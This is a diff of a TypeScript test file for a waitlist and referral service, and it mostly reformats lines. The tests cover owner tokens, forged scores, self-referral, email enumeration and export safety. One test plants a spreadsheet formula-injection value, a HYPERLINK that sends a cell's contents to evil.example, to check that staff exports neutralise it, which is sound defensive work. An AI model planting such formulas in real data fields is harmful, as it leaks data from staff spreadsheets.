@@ -7,7 +7,11 @@ import notifyLaunch from '../../functions/notify-launch.mts';
 import referrals from '../../functions/referrals.mts';
 import flaggedReferrals from '../../functions/admin-flagged-referrals.mts';
 import { cookieFor, createStaff, staffRequest } from './staff-helpers.ts';
-import { REFERRAL_BURST_LIMIT, REFERRAL_DAILY_CAP, listFlaggedReferrals } from '../../src/server/repositories/waitlist.ts';
+import {
+  REFERRAL_BURST_LIMIT,
+  REFERRAL_DAILY_CAP,
+  listFlaggedReferrals,
+} from '../../src/server/repositories/waitlist.ts';
 import { API } from '../../src/lib/routes.ts';
 import { call, closeDb, context, jsonRequest, statementsDuring, truncate, useTestDatabase } from './helpers.ts';
 import { confirmByEmail } from './confirm-helpers.ts';
@@ -22,10 +26,15 @@ import { getDb } from '../../src/server/db.ts';
 import { emailStrings, forgetEmailStrings } from '../../src/server/mail/strings.ts';
 
 const db = useTestDatabase();
-const post = (body: unknown, headers?: Record<string, string>) => call(waitlist, jsonRequest(API.waitlist, body, { headers }));
+const post = (body: unknown, headers?: Record<string, string>) =>
+  call(waitlist, jsonRequest(API.waitlist, body, { headers }));
 
 const QUESTIONS = ['s-easy-01', 's-mod-01', 's-mod-02', 's-mod-03', 's-hard-01', 's-hard-02', 's-hard-03'];
-const answer = (i: number, points: 5 | 3 | 2 | 1) => ({ questionId: QUESTIONS[i]!, optionIndex: [5, 3, 2, 1].indexOf(points), points });
+const answer = (i: number, points: 5 | 3 | 2 | 1) => ({
+  questionId: QUESTIONS[i]!,
+  optionIndex: [5, 3, 2, 1].indexOf(points),
+  points,
+});
 
 function finalSave(points: (5 | 3 | 2 | 1)[]) {
   const result = scoreSelfAssessment(points);
@@ -40,16 +49,31 @@ function finalSave(points: (5 | 3 | 2 | 1)[]) {
 }
 
 async function records() {
-  const result = await db.execute(sql`SELECT id, email, quiz_answers, referral_code, owner_token_hash, referred_by_id FROM launch_signups ORDER BY id`);
+  const result = await db.execute(
+    sql`SELECT id, email, quiz_answers, referral_code, owner_token_hash, referred_by_id FROM launch_signups ORDER BY id`,
+  );
   return (
     result as unknown as {
-      rows: { id: number; email: string; quiz_answers: any; referral_code: string; owner_token_hash: string | null; referred_by_id: number | null }[];
+      rows: {
+        id: number;
+        email: string;
+        quiz_answers: any;
+        referral_code: string;
+        owner_token_hash: string | null;
+        referred_by_id: number | null;
+      }[];
     }
   ).rows;
 }
 
-const recordOf = async (email: string) => (await records()).find((row) => row.email.toLowerCase() === email.toLowerCase());
-const progressSave = (points: 5 | 3 | 2 | 1) => ({ answers: [answer(0, points)], currentQuestion: 1, questions: QUESTIONS, timeStamp: new Date().toISOString() });
+const recordOf = async (email: string) =>
+  (await records()).find((row) => row.email.toLowerCase() === email.toLowerCase());
+const progressSave = (points: 5 | 3 | 2 | 1) => ({
+  answers: [answer(0, points)],
+  currentQuestion: 1,
+  questions: QUESTIONS,
+  timeStamp: new Date().toISOString(),
+});
 
 beforeEach(() => truncate('launch_signups', 'waitlist_referrals'));
 afterAll(() => closeDb());
@@ -58,7 +82,12 @@ describe('POST /api/waitlist', () => {
   it('creates one record per email, case-insensitively, and answers a code and an owner token, never an id', async () => {
     const first = await post({ email: 'Amina@Example.com' });
     expect(first.status).toBe(200);
-    expect(first.body).toEqual({ success: true, message: expect.any(String), referralCode: expect.stringMatching(/^[A-Za-z0-9_-]{8}$/), ownerToken: expect.stringMatching(/^[A-Za-z0-9_-]{43}$/) });
+    expect(first.body).toEqual({
+      success: true,
+      message: expect.any(String),
+      referralCode: expect.stringMatching(/^[A-Za-z0-9_-]{8}$/),
+      ownerToken: expect.stringMatching(/^[A-Za-z0-9_-]{43}$/),
+    });
     expect(first.headers.get('cache-control')).toBe('no-store');
     const [stored] = await records();
     // only the token's hash is kept
@@ -107,19 +136,27 @@ describe('POST /api/waitlist', () => {
   it("stores the owner's progress saves and then the final result on the same record", async () => {
     const { body } = await post({ email: 'progress@example.com' });
     const ownerToken = body.ownerToken;
-    expect((await post({ email: 'progress@example.com', quizAnswers: progressSave(5), ownerToken })).body.referralCode).toBe(body.referralCode);
+    expect(
+      (await post({ email: 'progress@example.com', quizAnswers: progressSave(5), ownerToken })).body.referralCode,
+    ).toBe(body.referralCode);
     expect((await records())[0]!.quiz_answers.currentQuestion).toBe(1);
 
     const final = finalSave([5, 5, 3, 3, 2, 1, 5]);
     expect((await post({ email: 'progress@example.com', quizAnswers: final, ownerToken })).status).toBe(200);
     const [stored] = await records();
-    expect(stored!.quiz_answers).toMatchObject({ completed: true, score: final.score, spiritualLevel: final.spiritualLevel });
+    expect(stored!.quiz_answers).toMatchObject({
+      completed: true,
+      score: final.score,
+      spiritualLevel: final.spiritualLevel,
+    });
   });
 
   it('never lets a late progress save overwrite a final result', async () => {
     const final = finalSave([5, 5, 5, 5, 5, 5, 5]);
     const { body } = await post({ email: 'late@example.com', quizAnswers: final });
-    expect((await post({ email: 'late@example.com', quizAnswers: progressSave(1), ownerToken: body.ownerToken })).status).toBe(200);
+    expect(
+      (await post({ email: 'late@example.com', quizAnswers: progressSave(1), ownerToken: body.ownerToken })).status,
+    ).toBe(200);
     expect((await records())[0]!.quiz_answers).toMatchObject({ completed: true, score: 50, percentile: 99 });
   });
 
@@ -134,15 +171,27 @@ describe('POST /api/waitlist', () => {
   });
 
   it('rejects a result whose score, level or percentile does not follow from the answers', async () => {
-    const forged = { ...finalSave([1, 1, 1, 1, 1, 1, 1]), score: 50, spiritualLevel: 'Illuminated Spirit', percentile: 99 };
+    const forged = {
+      ...finalSave([1, 1, 1, 1, 1, 1, 1]),
+      score: 50,
+      spiritualLevel: 'Illuminated Spirit',
+      percentile: 99,
+    };
     const response = await post({ email: 'forged@example.com', quizAnswers: forged });
     expect(response.status).toBe(400);
-    expect(response.body.issues.map((i: { path: string }) => i.path)).toEqual(expect.arrayContaining(['quizAnswers.score']));
+    expect(response.body.issues.map((i: { path: string }) => i.path)).toEqual(
+      expect.arrayContaining(['quizAnswers.score']),
+    );
     expect(await records()).toHaveLength(0);
   });
 
   it('rejects out-of-range answers, bad emails and unknown keys with field issues', async () => {
-    const badPoints = { answers: [{ questionId: 'x', optionIndex: 0, points: 4 }], currentQuestion: 1, questions: QUESTIONS, timeStamp: new Date().toISOString() };
+    const badPoints = {
+      answers: [{ questionId: 'x', optionIndex: 0, points: 4 }],
+      currentQuestion: 1,
+      questions: QUESTIONS,
+      timeStamp: new Date().toISOString(),
+    };
     expect((await post({ email: 'a@example.com', quizAnswers: badPoints })).status).toBe(400);
     const badEmail = await post({ email: 'not-an-email' });
     expect(badEmail.status).toBe(400);
@@ -170,11 +219,14 @@ describe('referral credits', () => {
   };
   const credits = async () =>
     (
-      (await db.execute(sql`SELECT referrer_id, invitee_id, credited, flag_reason FROM waitlist_referrals ORDER BY id`)) as unknown as {
+      (await db.execute(
+        sql`SELECT referrer_id, invitee_id, credited, flag_reason FROM waitlist_referrals ORDER BY id`,
+      )) as unknown as {
         rows: { referrer_id: number; invitee_id: number; credited: boolean; flag_reason: string | null }[];
       }
     ).rows;
-  const invitesOf = async (code: string) => (await call(referrals, new Request(`http://localhost:8888/api/referrals/${code}`), context({ code }))).body;
+  const invitesOf = async (code: string) =>
+    (await call(referrals, new Request(`http://localhost:8888/api/referrals/${code}`), context({ code }))).body;
 
   it('links an invitee to the inviter and credits +10 XP once', async () => {
     const referrer = await post({ email: 'referrer@example.com' });
@@ -186,7 +238,15 @@ describe('referral credits', () => {
 
   it('a code seen in a share link cannot be claimed by someone else', async () => {
     const referrer = await post({ email: 'early@example.com' });
-    const squat = await call(notifyLaunch, jsonRequest('/api/notify-launch', { name: 'Squatter', email: 'squat@example.com', source: 'spiritual_quiz', referralCode: referrer.body.referralCode }));
+    const squat = await call(
+      notifyLaunch,
+      jsonRequest('/api/notify-launch', {
+        name: 'Squatter',
+        email: 'squat@example.com',
+        source: 'spiritual_quiz',
+        referralCode: referrer.body.referralCode,
+      }),
+    );
     expect(squat.status).toBe(400);
     const other = await post({ email: 'other@example.com' });
     expect(other.body.referralCode).not.toBe(referrer.body.referralCode);
@@ -222,8 +282,14 @@ describe('referral credits', () => {
     const referrer = await post({ email: 'sharer@example.com' });
     const code = referrer.body.referralCode;
     for (let i = 0; i < REFERRAL_BURST_LIMIT + 2; i++) await invite(`quick-${i}@example.com`, code);
-    const [admin, moderator] = await Promise.all([createStaff('flag-admin', 'Super Admin'), createStaff('flag-mod', 'Moderator')]);
-    const asAdmin = await call(flaggedReferrals, staffRequest('GET', API.adminFlaggedReferrals, { cookie: await cookieFor(admin.id) }));
+    const [admin, moderator] = await Promise.all([
+      createStaff('flag-admin', 'Super Admin'),
+      createStaff('flag-mod', 'Moderator'),
+    ]);
+    const asAdmin = await call(
+      flaggedReferrals,
+      staffRequest('GET', API.adminFlaggedReferrals, { cookie: await cookieFor(admin.id) }),
+    );
     expect(asAdmin.status).toBe(200);
     expect(asAdmin.body.total).toBe(2);
     expect(asAdmin.body.referrals).toHaveLength(2);
@@ -232,9 +298,23 @@ describe('referral credits', () => {
       referrer: { email: 'sharer@example.com', referralCode: code },
       invitee: { email: `quick-${REFERRAL_BURST_LIMIT + 1}@example.com` },
     });
-    expect((await call(flaggedReferrals, staffRequest('GET', API.adminFlaggedReferrals, { cookie: await cookieFor(moderator.id) }))).status).toBe(403);
+    expect(
+      (
+        await call(
+          flaggedReferrals,
+          staffRequest('GET', API.adminFlaggedReferrals, { cookie: await cookieFor(moderator.id) }),
+        )
+      ).status,
+    ).toBe(403);
     expect((await call(flaggedReferrals, staffRequest('GET', API.adminFlaggedReferrals))).status).toBe(401);
-    expect((await call(flaggedReferrals, staffRequest('GET', `${API.adminFlaggedReferrals}?page=0`, { cookie: await cookieFor(admin.id) }))).status).toBe(400);
+    expect(
+      (
+        await call(
+          flaggedReferrals,
+          staffRequest('GET', `${API.adminFlaggedReferrals}?page=0`, { cookie: await cookieFor(admin.id) }),
+        )
+      ).status,
+    ).toBe(400);
   });
 
   it('caps credits per referrer per day', async () => {
@@ -258,9 +338,10 @@ describe('referral credits', () => {
 
 // Issue 17 ------------------------------------------------------------------------------------
 
-const launch = (body: Record<string, unknown>) => call(notifyLaunch, jsonRequest(API.notifyLaunch, { name: 'Visitor', source: 'spiritual_quiz', ...body }));
-const invitesOf = async (code: string) => (await call(referrals, new Request(`http://localhost:8888/api/referrals/${code}`), context({ code }))).body;
-
+const launch = (body: Record<string, unknown>) =>
+  call(notifyLaunch, jsonRequest(API.notifyLaunch, { name: 'Visitor', source: 'spiritual_quiz', ...body }));
+const invitesOf = async (code: string) =>
+  (await call(referrals, new Request(`http://localhost:8888/api/referrals/${code}`), context({ code }))).body;
 
 /** Reads the email strings now: their read (once a minute, the same for every address) then stays out of a sign-up's statements. */
 async function freshEmailStrings() {
@@ -272,51 +353,71 @@ describe('a listed email and a new one get the same answer after the same work (
   const cases = [
     ['POST /api/waitlist', (email: string, ref?: string) => post({ email, ...(ref ? { ref } : {}) })],
     // from a page in another language: the record's language is part of the owner's update (decision 0050)
-    ['POST /api/waitlist from /ar', (email: string, ref?: string) => post({ email, locale: 'ar', ...(ref ? { ref } : {}) })],
+    [
+      'POST /api/waitlist from /ar',
+      (email: string, ref?: string) => post({ email, locale: 'ar', ...(ref ? { ref } : {}) }),
+    ],
     ['POST /api/notify-launch', (email: string, ref?: string) => launch({ email, ...(ref ? { ref } : {}) })],
-    ['POST /api/notify-launch, phone only', (phone: string, ref?: string) => launch({ phoneNumber: phone, ...(ref ? { ref } : {}) })],
+    [
+      'POST /api/notify-launch, phone only',
+      (phone: string, ref?: string) => launch({ phoneNumber: phone, ...(ref ? { ref } : {}) }),
+    ],
   ] as const;
 
-  it.each(cases)('%s: status, body, headers and the statements sent to Postgres are the same', async (_label, signUp) => {
-    const phoneOnly = _label.endsWith('phone only');
-    const listedContact = phoneOnly ? '+44 7700 900001' : 'listed@example.com';
-    const newContact = (i: number) => (phoneOnly ? `+44 7700 90010${i}` : `new-${i}@example.com`);
-    await signUp(listedContact);
-    const inviter = await post({ email: 'inviter@example.com' });
-    for (const [i, ref] of [undefined, inviter.body.referralCode as string].entries()) {
-      // The email strings are read at most once a minute whatever the address (decision 0050):
-      // read now, so that read falls in neither list.
-      await freshEmailStrings();
-      // a stranger's repeat of a listed contact, then a new contact, each with or without a code
-      const listed = await statementsDuring(() => signUp(listedContact, ref));
-      const fresh = await statementsDuring(() => signUp(newContact(i), ref));
-      expect(listed.statements).toEqual(fresh.statements);
-      expect(listed.result.status).toBe(200);
-      expect(listed.result.status).toBe(fresh.result.status);
-      expect(Object.keys(listed.result.body).sort()).toEqual(Object.keys(fresh.result.body).sort());
-      expect(listed.result.body.message).toBe(fresh.result.body.message);
-      expect(listed.result.body.referralCode).toMatch(/^[A-Za-z0-9_-]{8}$/);
-      expect(listed.result.body.ownerToken).toMatch(/^[A-Za-z0-9_-]{43}$/);
-      expect([...listed.result.headers.entries()]).toEqual([...fresh.result.headers.entries()]);
-    }
-    // the stranger's repeats changed nothing: one record for the listed contact, one credit (the new
-    // one with the code) once it confirms; a phone-only sign-up cannot confirm (decision 0036)
-    if (!phoneOnly) await confirmByEmail(newContact(1));
-    expect(await invitesOf(inviter.body.referralCode)).toEqual(phoneOnly ? { invites: 0, xp: 0 } : { invites: 1, xp: 10 });
-  });
+  it.each(cases)(
+    '%s: status, body, headers and the statements sent to Postgres are the same',
+    async (_label, signUp) => {
+      const phoneOnly = _label.endsWith('phone only');
+      const listedContact = phoneOnly ? '+44 7700 900001' : 'listed@example.com';
+      const newContact = (i: number) => (phoneOnly ? `+44 7700 90010${i}` : `new-${i}@example.com`);
+      await signUp(listedContact);
+      const inviter = await post({ email: 'inviter@example.com' });
+      for (const [i, ref] of [undefined, inviter.body.referralCode as string].entries()) {
+        // The email strings are read at most once a minute whatever the address (decision 0050):
+        // read now, so that read falls in neither list.
+        await freshEmailStrings();
+        // a stranger's repeat of a listed contact, then a new contact, each with or without a code
+        const listed = await statementsDuring(() => signUp(listedContact, ref));
+        const fresh = await statementsDuring(() => signUp(newContact(i), ref));
+        expect(listed.statements).toEqual(fresh.statements);
+        expect(listed.result.status).toBe(200);
+        expect(listed.result.status).toBe(fresh.result.status);
+        expect(Object.keys(listed.result.body).sort()).toEqual(Object.keys(fresh.result.body).sort());
+        expect(listed.result.body.message).toBe(fresh.result.body.message);
+        expect(listed.result.body.referralCode).toMatch(/^[A-Za-z0-9_-]{8}$/);
+        expect(listed.result.body.ownerToken).toMatch(/^[A-Za-z0-9_-]{43}$/);
+        expect([...listed.result.headers.entries()]).toEqual([...fresh.result.headers.entries()]);
+      }
+      // the stranger's repeats changed nothing: one record for the listed contact, one credit (the new
+      // one with the code) once it confirms; a phone-only sign-up cannot confirm (decision 0036)
+      if (!phoneOnly) await confirmByEmail(newContact(1));
+      expect(await invitesOf(inviter.body.referralCode)).toEqual(
+        phoneOnly ? { invites: 0, xp: 0 } : { invites: 1, xp: 10 },
+      );
+    },
+  );
 
   it("the owner's own repeat runs the same statements too, and updates the record", async () => {
     const owner = await launch({ email: 'owner@example.com' });
     // the stranger's browser holds a token of its own (of its own record), as the owner's does
     const strangersOwn = await launch({ email: 'stranger@example.com' });
     await freshEmailStrings();
-    const stranger = await statementsDuring(() => launch({ email: 'owner@example.com', name: 'Stranger', ownerToken: strangersOwn.body.ownerToken }));
-    const own = await statementsDuring(() => launch({ email: 'owner@example.com', name: 'Owner', ownerToken: owner.body.ownerToken }));
+    const stranger = await statementsDuring(() =>
+      launch({ email: 'owner@example.com', name: 'Stranger', ownerToken: strangersOwn.body.ownerToken }),
+    );
+    const own = await statementsDuring(() =>
+      launch({ email: 'owner@example.com', name: 'Owner', ownerToken: owner.body.ownerToken }),
+    );
     expect(own.statements).toEqual(stranger.statements);
     expect(own.result.body.referralCode).toBe(owner.body.referralCode);
     expect(stranger.result.body.referralCode).not.toBe(owner.body.referralCode);
-    const named = ((await db.execute(sql`SELECT email, name FROM launch_signups ORDER BY id`)) as unknown as { rows: unknown[] }).rows;
-    expect(named).toEqual([{ email: 'owner@example.com', name: 'Owner' }, { email: 'stranger@example.com', name: 'Visitor' }]);
+    const named = (
+      (await db.execute(sql`SELECT email, name FROM launch_signups ORDER BY id`)) as unknown as { rows: unknown[] }
+    ).rows;
+    expect(named).toEqual([
+      { email: 'owner@example.com', name: 'Owner' },
+      { email: 'stranger@example.com', name: 'Visitor' },
+    ]);
   });
 });
 
@@ -324,7 +425,9 @@ describe('self-referral and duplicates up to the normalised email or phone (issu
   it.each(SELF_REFERRAL_VARIANTS)('the red team variant "$label" earns no credit', async (variant) => {
     const referrer = await launch({ email: REFERRER.email, phoneNumber: REFERRER.phone });
     const code = referrer.body.referralCode;
-    const response = variant.email ? await post({ email: variant.email, ref: code }) : await launch({ phoneNumber: variant.phone, ref: code });
+    const response = variant.email
+      ? await post({ email: variant.email, ref: code })
+      : await launch({ phoneNumber: variant.phone, ref: code });
     expect(response.status).toBe(200);
     if (variant.email) await confirmByEmail(variant.email);
     expect(await invitesOf(code)).toEqual({ invites: 0, xp: 0 });
@@ -360,16 +463,21 @@ describe('self-referral and duplicates up to the normalised email or phone (issu
       expect(again.status).toBe(200);
       expect(again.body.referralCode).not.toBe(first.body.referralCode);
     }
-    const stored = ((await db.execute(sql`SELECT name, phone_number FROM launch_signups`)) as unknown as { rows: unknown[] }).rows;
+    const stored = (
+      (await db.execute(sql`SELECT name, phone_number FROM launch_signups`)) as unknown as { rows: unknown[] }
+    ).rows;
     expect(stored).toEqual([{ name: 'Visitor', phone_number: '+44 7700 900123' }]);
     // the owner (its browser's token) may still update the record from another spelling
     await launch({ phoneNumber: '0044 7700 900123', name: 'Owner', ownerToken: first.body.ownerToken });
-    expect(((await db.execute(sql`SELECT name FROM launch_signups`)) as unknown as { rows: unknown[] }).rows).toEqual([{ name: 'Owner' }]);
+    expect(((await db.execute(sql`SELECT name FROM launch_signups`)) as unknown as { rows: unknown[] }).rows).toEqual([
+      { name: 'Owner' },
+    ]);
   });
 });
 
 describe('Growth Funnel referral conversions come from stored referrals, not the beacon (issue 17)', () => {
-  const BROWSER_UA = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0 Safari/537.36';
+  const BROWSER_UA =
+    'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0 Safari/537.36';
   const conversions = async (cookie: string) => {
     const { body } = await call(funnel, staffRequest('GET', API.analyticsFunnel.path({ period: '7d' }), { cookie }));
     return body.steps.find((step: { key: string }) => step.key === 'referralConversions').count as number;
@@ -379,7 +487,15 @@ describe('Growth Funnel referral conversions come from stored referrals, not the
     await truncate('analytics_events', 'analytics_daily', 'staff_accounts');
     const cookie = await cookieFor((await createStaff('funnel-admin', 'Super Admin')).id);
     for (let i = 0; i < 20; i++) {
-      const forged = await call(events, jsonRequest(API.events, { type: 'referral_converted', source: 'referral' }, { headers: { 'User-Agent': BROWSER_UA } }), context({}, `198.51.100.${i}`));
+      const forged = await call(
+        events,
+        jsonRequest(
+          API.events,
+          { type: 'referral_converted', source: 'referral' },
+          { headers: { 'User-Agent': BROWSER_UA } },
+        ),
+        context({}, `198.51.100.${i}`),
+      );
       expect(forged.status).toBe(400);
       expect(forged.body.error).toMatch(/counted by the server/);
     }
@@ -400,11 +516,18 @@ describe('Growth Funnel referral conversions come from stored referrals, not the
     await confirmByEmail('lonely@example.com');
     expect(await conversions(cookie)).toBe(1);
     // the beacon still takes the events it may send
-    const joined = await call(events, jsonRequest(API.events, { type: 'waitlist_joined', waitlistSource: 'self_assessment', source: 'referral' }, { headers: { 'User-Agent': BROWSER_UA } }), context());
+    const joined = await call(
+      events,
+      jsonRequest(
+        API.events,
+        { type: 'waitlist_joined', waitlistSource: 'self_assessment', source: 'referral' },
+        { headers: { 'User-Agent': BROWSER_UA } },
+      ),
+      context(),
+    );
     expect(joined.status).toBe(202);
   });
 });
-
 
 describe('a formula planted through the notify-launch name is text in every staff export (issue 17)', () => {
   const PLANTED = 'x;=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
@@ -419,15 +542,24 @@ describe('a formula planted through the notify-launch name is text in every staf
     await confirmByEmail('planted-friend@example.com');
 
     const exports: [string, Response][] = [];
-    for (const kind of EXPORT_KINDS) exports.push([kind, await adminExports(staffRequest('GET', API.adminExport.path(kind), { cookie }), context({ kind }))]);
-    for (const view of ['funnel', 'blog'] as const) exports.push([view, await exportCsv(staffRequest('GET', API.analyticsExport.path({ period: '7d', view }), { cookie }), context())]);
+    for (const kind of EXPORT_KINDS)
+      exports.push([
+        kind,
+        await adminExports(staffRequest('GET', API.adminExport.path(kind), { cookie }), context({ kind })),
+      ]);
+    for (const view of ['funnel', 'blog'] as const)
+      exports.push([
+        view,
+        await exportCsv(staffRequest('GET', API.analyticsExport.path({ period: '7d', view }), { cookie }), context()),
+      ]);
     let seen = 0;
     for (const [kind, response] of exports) {
       expect(response.status, kind).toBe(200);
       const text = (await response.text()).replace(/^\uFEFF/, '');
       for (const cell of parseCsv(text).flat()) {
         if (cell.includes('evil.example/?leak=')) seen++;
-        for (const piece of [cell, ...cell.split(/[;,\t\r\n]/)]) expect(/^\s*[=+\-@]/.test(piece), `${kind}: ${JSON.stringify(cell)}`).toBe(false);
+        for (const piece of [cell, ...cell.split(/[;,\t\r\n]/)])
+          expect(/^\s*[=+\-@]/.test(piece), `${kind}: ${JSON.stringify(cell)}`).toBe(false);
       }
     }
     // the name did reach an export (the Referrals one), as text (other files' data may hold other formulas)
